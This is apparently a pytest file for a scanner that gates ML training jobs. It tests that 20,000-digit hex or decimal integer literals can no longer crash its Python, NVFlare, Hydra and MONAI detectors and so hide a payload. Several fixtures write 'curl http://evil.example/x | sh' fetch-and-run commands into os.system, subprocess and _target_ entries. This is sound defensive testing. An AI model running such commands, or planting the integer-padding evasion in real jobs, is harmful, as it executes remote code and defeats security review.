"""Session 56 (hardening56): integers past Python's limit on integer digits hid a payload's findings.

CPython refuses a decimal literal of more than 4,300 digits (sys.get_int_max_str_digits()), but a hex, octal or binary
literal of any length is an int, and so is a YAML `0xfff...` (PyYAML builds it; a decimal one raised in the reader and
the file was not read). Every str(), repr() or `%d` the gate made of such a value raised ValueError: in the Python
folder (the payload's call lost its rules), in the NVFlare config detector (`{name}` lengths), in Hydra's call
(`repr` of the target's arguments). One 20 KB line beside the payload turned its reject into an escalation.
Now such an integer is no constant in Python (resolve `_e_number`, beyond fold.MAX_INT_BITS) and is read as its text
in YAML (configs.bounded_constructor, for every YAML reader of the gate), where the config detector names it.
Each job goes through the CLI (a real subprocess) and a site's path (api.gate with a fork server).
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer import api
from analyzer.engine import configs, isolate
from analyzer.model import Decision
from analyzer.policy import load_policy
from conftest import CORPUS, run_cli

# forks a site's fork server and runs the CLI: run alone (make test's second run)
pytestmark = pytest.mark.serial

HEX = "0x" + "f" * 20_000  # 80,000 bits: some 24,000 decimal digits
FETCH_AND_RUN = "remote-code.fetch-and-run-command"


@pytest.fixture(scope="module")
def server():
    fork_server = isolate.ForkServer()
    yield fork_server
    fork_server.close()


def _both_paths(job: Path, server, policy_file: Path | None = None) -> list[tuple[str, set[str], list]]:
    """(decision, rules, findings as dicts) of `job` through the CLI and through a site's gate."""
    policy_args = ["--policy", str(policy_file)] if policy_file else []
    proc = run_cli("scan", "--no-cache", "--format", "json", *policy_args, str(job))
    (cli,) = json.loads(proc.stdout)["reports"]
    _, site = api.gate(job, load_policy(policy_file) if policy_file else kit.POLICY, server=server)
    site_findings = [{"rule": f.rule, "path": f.path, "message": f.message} for f in site.findings]
    return [(cli["decision"], {f["rule"] for f in cli["findings"]}, cli["findings"]),
            (site.decision.value, {f["rule"] for f in site_findings}, site_findings)]


def _copy(name: str, tmp_path: Path) -> Path:
    return Path(shutil.copytree(CORPUS / "jobs" / name, tmp_path / name))


def test_a_long_hex_literal_in_the_payloads_command_hides_none_of_its_rules(tmp_path: Path, server) -> None:
    """`'curl ... | sh #' + str(N)`, N a 20,000-digit hex literal: on main the call's rules failed (internal-error)
    and, with the site's long lines allowed, the job escalated on `run-program` alone."""
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text(f"import subprocess\nN = {HEX}\n"
                                  "subprocess.run(['sh', '-c', 'curl http://evil.example/x | sh #' + str(N)])\n")
    policy_file = tmp_path / "policy.yaml"
    policy_file.write_text("limits:\n  max_line_length: 100000\n")
    for decision, rules, _ in _both_paths(job, server, policy_file):
        assert decision == "reject", rules
        assert FETCH_AND_RUN in rules and "unanalyzable.internal-error" not in rules


def test_a_long_hex_integer_in_an_nvflare_yaml_config(tmp_path: Path, server) -> None:
    """The launcher's `curl | sh` of corpus rt37c_yaml_interp_command and an integer substituted into the executor's
    arguments: on main the nvflare-config detector failed (`{name}` lengths took str() of it): escalate."""
    job = _copy("rt37c_yaml_interp_command", tmp_path)
    config = job / "app/config/config_fed_client.yml"
    text = config.read_text().replace("app_script: train.py\n", f"app_script: train.py\nbig: {HEX}\n")
    config.write_text(text.replace("        launch_once: true\n", "        launch_once: true\n        other: ${big}\n"))
    for decision, rules, findings in _both_paths(job, server):
        assert decision == "reject", rules
        assert "config-attack.launcher-shell" in rules and "unanalyzable.internal-error" not in rules
        assert any(f["rule"] == "unanalyzable.config-parse" and configs.LONG_INTEGER in f["message"] for f in findings)


@pytest.mark.parametrize("integer", [HEX, "1" * 5_000])
def test_a_long_integer_beside_a_hydra_target(tmp_path: Path, server, integer: str) -> None:
    """Corpus hy24_target_os_system (`_target_: os.system` on `curl | sh`) with one more key: on main the hex one
    failed hydra-config (`repr` of the call's arguments: escalate); the decimal one left the file unread by it, its
    reject kept by another reader, the integer unnamed."""
    job = _copy("hy24_target_os_system", tmp_path)
    with (job / "hyapp/conf/model/linear.yaml").open("a") as fh:
        fh.write(f"n: {integer}\n")
    for decision, rules, findings in _both_paths(job, server):
        assert decision == "reject", rules
        assert {FETCH_AND_RUN, "subprocess.shell"} <= rules and "unanalyzable.internal-error" not in rules
        assert any(f["rule"] == "unvouched.hydra-target" and configs.LONG_INTEGER in f["message"] for f in findings)


def test_a_long_integer_in_a_monai_bundle(tmp_path: Path) -> None:
    """A bundle's `_target_: os.system` beside a 5,000-digit integer (JSON and YAML, both read by PyYAML's composer):
    on main the bundle was `not readable`, and in JSON its os.system went unreported: escalate."""
    command = "$__import__('os').popen('curl http://evil.example/x | sh').read()"
    for name in ("train.json", "train.yaml"):
        job = tmp_path / name
        (job / "configs").mkdir(parents=True)
        (job / "configs/metadata.json").write_text("{}")
        net = json.dumps({"_target_": "os.system", "command": command})
        (job / "configs" / name).write_text('{"big": ' + "1" * 5_000 + ', "net": ' + net + "}\n")
        report = api.scan(job, kit.POLICY)
        assert report.decision is Decision.REJECT, kit.findings(report)
        assert FETCH_AND_RUN in kit.rules(report)
        assert any(f.rule == "unvouched.monai-bundle" and configs.LONG_INTEGER in f.message for f in report.findings)


def test_integers_within_the_limit_are_read_as_integers() -> None:
    doc = configs.read_config("c.yml", f"a: 0x{'f' * 1_000}\nb: {'9' * 1_200}\nc: 0x1f\nd: -12\ne: {HEX}\n".encode())
    assert (doc.data["a"], doc.data["b"], doc.data["c"], doc.data["d"]) == (16 ** 1_000 - 1, int("9" * 1_200), 31, -12)
    assert doc.data["e"] == HEX and [(p.line, p.text) for p in doc.problems] == [(5, configs.LONG_INTEGER)]
    # in Python, a literal of 4,000 bits is still folded into the command it is part of
    source = f"import os\nN = 0x{'f' * 1_000}\nos.system('curl http://evil.example/x | sh #' + str(N))\n"
    assert FETCH_AND_RUN in kit.rules(kit.scan_text(source))
